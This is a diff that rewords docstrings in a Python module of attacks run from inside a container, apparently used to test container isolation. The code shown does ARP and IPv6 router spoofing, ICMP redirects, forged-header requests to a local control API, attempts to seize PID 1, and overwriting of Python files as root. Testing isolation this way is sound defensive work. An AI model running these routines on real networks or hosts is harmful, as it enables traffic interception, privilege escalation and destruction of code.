@@ -1,6 +1,6 @@
-"""What a hostile container tries, run inside it as `python3 - MODE ARGUMENTS`; writes one line of JSON.
+"""Attacks by a hostile container, run inside it as `python3 - MODE ARGUMENTS`; prints one line of JSON.
 
-It has what Docker gives every container: root, and raw sockets. Standard library only.
+It has Docker's default rights: root, and raw sockets. Standard library only.
 """
 
 from __future__ import annotations
@@ -23,7 +23,7 @@ from typing import Any
 SECONDS = 1.0
 ARP, IPV4 = 0x0806, 0x0800
 SYN, SYN_ACK = 0x02, 0x12
-_PIDFD_OPEN, _PIDFD_GETFD = 434, 438  # the same on all machines
+_PIDFD_OPEN, _PIDFD_GETFD = 434, 438  # the same on all architectures
 PREFIX = "2001:db8::"
 CHANGE = b'{"ingress": {"loss": "99%"}}'
 FORWARDED = (
@@ -36,7 +36,7 @@ FORWARDED = (
 
 
 def connect(host: str, ports: str, send: str = "") -> dict[str, Any]:
-    """What each port says first, or after `send`; its refusal where it says nothing."""
+    """The first bytes from each port, after `send` if given; or its refusal."""
     numbers = ports.split(",")
     with ThreadPoolExecutor() as pool:
         return dict(
@@ -45,21 +45,21 @@ def connect(host: str, ports: str, send: str = "") -> dict[str, Any]:
 
 
 def http(host: str, port: str, method: str, path: str, *headers: str) -> dict[str, Any]:
-    """The status line that a request gets."""
+    """The status line of the answer."""
     head = "".join(f"{line}\r\n" for line in headers)
     text = f"{method} {path} HTTP/1.1\r\n{head}Content-Length: {len(CHANGE)}\r\nConnection: close\r\n\r\n".encode()
     return {"status": _first_words(host, int(port), text + CHANGE).split("\r\n")[0]}
 
 
 def forwarded(gateway: str) -> dict[str, Any]:
-    """From inside: the status lines that a change gets with each header that would make us the host."""
+    """From inside: the status lines for a change, with each header that claims we are the host."""
     headers = [line.format(gateway) for line in FORWARDED]
     asked = [http("127.0.0.1", "80", "PATCH", "/v1/conditions", "Host: localhost", line) for line in headers]
     return {"uid": os.getuid(), "statuses": [result["status"] for result in asked]}
 
 
 def spoof(client: str, gateway: str, port: str) -> dict[str, Any]:
-    """Say that the gateway's address is ours, then begin a connection to the client with it, and listen for answers."""
+    """Claim the gateway's address, then connect to the client from it and listen for answers."""
     with _wire() as wire:
         own = wire.getsockname()[4]
         macs = {name: _mac_of(wire, own, name) for name in (client, gateway)}
@@ -68,7 +68,7 @@ def spoof(client: str, gateway: str, port: str) -> dict[str, Any]:
             wire.send(_arp(1, own, gateway, b"\xff" * 6, client))
             time.sleep(0.05)
         heard = 0
-        for source in (own, macs[gateway]):  # the second pretends to have the gateway's hardware address, too
+        for source in (own, macs[gateway]):  # the second also forges the gateway's hardware address
             wire.send(_tcp(source, macs[client], gateway, client, int(port), SYN))
             answers = (frame for frame in _heard(wire) if frame[26:34] == _pair(client, gateway))
             heard += sum(frame[47] == SYN_ACK for frame in answers)
@@ -76,7 +76,7 @@ def spoof(client: str, gateway: str, port: str) -> dict[str, Any]:
 
 
 def pretend(gateway: str, seconds: str) -> dict[str, Any]:
-    """Claim the gateway's address against everybody, asked or not, for so long."""
+    """Claim the gateway's address toward everybody for this time, with solicited and unsolicited ARP."""
     print("ready", flush=True)
     claims, end = 0, time.monotonic() + float(seconds)
     with _wire() as wire:
@@ -91,7 +91,7 @@ def pretend(gateway: str, seconds: str) -> dict[str, Any]:
 
 
 def advertise(client: str) -> dict[str, Any]:
-    """Say to everybody, and to the client alone, that we are the router of the network 2001:db8::/64 (RFC 4861)."""
+    """Advertise ourselves as router of 2001:db8::/64 to everybody and to the client alone (RFC 4861)."""
     prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, PREFIX))
     with _wire() as wire:
         own = wire.getsockname()[4]
@@ -108,7 +108,7 @@ def advertise(client: str) -> dict[str, Any]:
 
 
 def redirect(client: str, mac: str, gateway: str, target: str) -> dict[str, Any]:
-    """Say, as the gateway, that the way to `target` is by us (RFC 792)."""
+    """Send a redirect in the gateway's name: the route to `target` is through us (RFC 792)."""
     own = socket.gethostbyname(socket.gethostname())
     with _wire() as wire:
         quoted = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + _pair(client, target)
@@ -122,7 +122,7 @@ def redirect(client: str, mac: str, gateway: str, target: str) -> dict[str, Any]
 
 
 def control(port: str) -> dict[str, Any]:
-    """From inside: mark a socket as the host does, and knock at the host's door."""
+    """From inside: mark a socket like the host does, and connect to the host's port."""
     with socket.socket() as connection:
         connection.settimeout(SECONDS)
         try:
@@ -138,9 +138,9 @@ def control(port: str) -> dict[str, Any]:
 
 
 def seize() -> dict[str, Any]:
-    """From inside: look into PID 1, the one process that may change the network, trace it, end it, and be like it.
+    """From inside: read, trace and kill PID 1, the only process that may change the network, and copy its rights.
 
-    Each attempt by name, and what came of it.
+    Each attempt by name, and its outcome.
     """
     libc = ctypes.CDLL(None, use_errno=True)
     vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(16)), 16)
@@ -184,7 +184,7 @@ def _marked() -> None:
 
 
 def _readdressed() -> None:
-    """Take an address of this container for lo, by netlink."""
+    """Add an address of this container to lo, by netlink."""
     with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as kernel:
         address = struct.pack("BBBBi", socket.AF_INET, 32, 0, 0, 1) + struct.pack("HH4s", 8, 2, b"\x0a\x01\x02\x03")
         kernel.send(struct.pack("IHHII", 16 + len(address), 20, 0x605, 1, 0) + address)
@@ -194,7 +194,7 @@ def _readdressed() -> None:
 
 
 def overwrite(*folders: str) -> dict[str, Any]:
-    """As root, put other code in the place of all Python code there."""
+    """As root, overwrite all Python code there."""
     files = [file for folder in folders for file in Path(folder).rglob("*.py*") if file.is_file()]
     for file in files:
         file.unlink()
